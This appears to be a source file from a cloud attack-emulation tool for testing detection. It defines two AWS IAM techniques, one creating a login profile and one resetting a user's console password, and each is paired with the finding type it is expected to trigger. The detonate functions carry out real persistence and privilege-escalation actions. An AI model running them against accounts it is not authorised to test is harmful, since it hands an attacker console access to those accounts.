/** Console access for a user the attacker controls: a new login profile, or a changed password. */
import { CreateLoginProfileCommand, UpdateLoginProfileCommand } from '@aws-sdk/client-iam';
import { createVictimUser, strongPassword } from '../fixtures/iam.js';
import { technique } from '../technique.js';

const ACCOUNT_MANIPULATION = 'Persistence:IAM/AccountManipulation';

export const iamCreateUserLoginProfile = technique<string>({
  id: 'aws.persistence.iam-create-user-login-profile',
  title: 'Create a Login Profile on an IAM User',
  source: 'stratus',
  tactics: ['Persistence', 'Privilege Escalation'],
  expectedFindingTypes: [ACCOUNT_MANIPULATION],
  setup: (context) => createVictimUser(context),
  async detonate({ attacker }, userName) {
    await attacker.iam.send(new CreateLoginProfileCommand({ UserName: userName, Password: strongPassword(), PasswordResetRequired: false }));
  },
});

export const iamUpdateUserLoginProfile = technique<string>({
  id: 'aws.privilege-escalation.iam-update-user-login-profile',
  title: 'Change IAM user password',
  source: 'stratus',
  tactics: ['Privilege Escalation'],
  expectedFindingTypes: [ACCOUNT_MANIPULATION],
  setup: (context) => createVictimUser(context, { withLoginProfile: true }),
  async detonate({ attacker }, userName) {
    await attacker.iam.send(new UpdateLoginProfileCommand({ UserName: userName, Password: strongPassword(), PasswordResetRequired: false }));
  },
});
